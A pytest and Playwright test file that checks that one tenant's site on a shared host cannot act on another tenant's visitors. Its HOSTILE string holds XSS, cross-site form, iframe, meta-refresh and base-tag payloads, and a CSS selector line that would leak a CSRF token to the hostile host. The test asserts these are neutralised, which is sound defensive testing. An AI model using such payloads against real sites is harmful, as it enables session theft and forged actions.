"""Two organizations' sites on one host, in a browser over HTTP: what one of them can do to the other's visitors."""

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.support.api import Client
from tests.support.chromium import chromium as chromium  # noqa: PLC0414 - a fixture
from tests.support.chromium import host as host  # noqa: PLC0414 - a fixture
from tests.support.chromium import installed
from tests.support.chromium import working as working  # noqa: PLC0414 - a fixture
from tests.support.site import opened

pytestmark = installed

HOSTILE = """
<script>window.acted = 1; fetch("VICTIM/contact")</script>
<img src="x" onerror="window.acted = 2">
<form action="VICTIM/sign-in/out" method="post"><input name="to"><button>Free plants</button></form>
<iframe src="VICTIM/contact"></iframe>
<object data="VICTIM/contact"></object>
<link rel="stylesheet" href="VICTIM/contact">
<meta http-equiv="refresh" content="0;url=VICTIM/sign-in/out">
<base href="VICTIM/">

[a link to the neighbour](VICTIM/board)

![an image](VICTIM/contact)
"""


@pytest.fixture
def browser(chromium: Browser) -> Iterator[BrowserContext]:
    """A visitor's browser."""
    with chromium.new_context() as context:
        context.set_default_timeout(20_000)
        yield context


def _root(api: Client, host: str) -> str:
    return f"{host}/site/{opened(api, showBoard=True, language='en').slug}"


def test_a_hostile_neighbour_reads_nothing_of_another_sites_visitor_and_acts_for_nobody(
    api: Client, stranger: Client, host: str, browser: BrowserContext
) -> None:
    victim, hostile = _root(api, host), _root(stranger, host)
    post = api.post("/v1/board/posts", {"title": "Dark mode", "body": "Please"}).body
    text = HOSTILE.replace("VICTIM", victim)
    stranger.post("/v1/knowledge/documents", {"title": "Trap", "body": text, "published": True})
    css = f"input[name=csrf][value^='a'] {{ background: url({hostile}/a) }}"
    assert stranger.patch("/v1/site/appearance", {"css": css}).status == 400
    assert stranger.patch("/v1/site/appearance", {"css": "h1 { color: rgb(1, 2, 3) }"}).status == 200

    page = browser.new_page()
    _votes_with_one_click(page, f"{victim}/board/{post['number']}", api, post["id"])
    [cookie] = browser.cookies()
    assert (cookie["path"], cookie["httpOnly"]) == (urlsplit(victim).path, True)
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") != "rgb(1, 2, 3)"

    asked: list[tuple[str, str, bool]] = []
    page.on("request", lambda each: asked.append((each.method, each.url, "cookie" in each.all_headers())))
    page.goto(f"{hostile}/articles/trap")
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
    assert page.evaluate("window.acted") is None
    assert page.evaluate("document.cookie") == ""
    assert page.locator("main form").count() == 1  # whether the article helped
    assert page.locator("iframe, object, main script, base").count() == 0
    page.click("text=No")
    page.goto(f"{hostile}/articles/trap")
    # Whatever the page asked for is its own, and got no cookie of the neighbour.
    assert {url.startswith(hostile) for _, url, _ in asked} == {True}
    assert not any(has_cookie for _, _, has_cookie in asked)

    page.click("text=a link to the neighbour")
    page.wait_for_url(f"{victim}/board")
    page.goto(f"{victim}/board/{post['number']}")
    assert page.locator("text=Take back my vote").count() == 1
    # A cookie of the neighbour's path is not sent to this site.
    browser.add_cookies([{"name": cookie["name"], "value": "x" * 43, "url": f"{hostile}/"}])
    assert [each["path"] for each in browser.cookies(f"{victim}/")] == [urlsplit(victim).path]


def _votes_with_one_click(page: Page, address: str, api: Client, post_id: str) -> None:
    """Vote in a browser that was never here: by a double click, which is one vote of one browser."""
    page.goto(address)
    assert page.context.cookies() == []
    page.dblclick("text=Vote for this")
    page.wait_for_selector("text=Take back my vote")
    assert api.get(f"/v1/board/posts/{post_id}").body["votes"] == 1
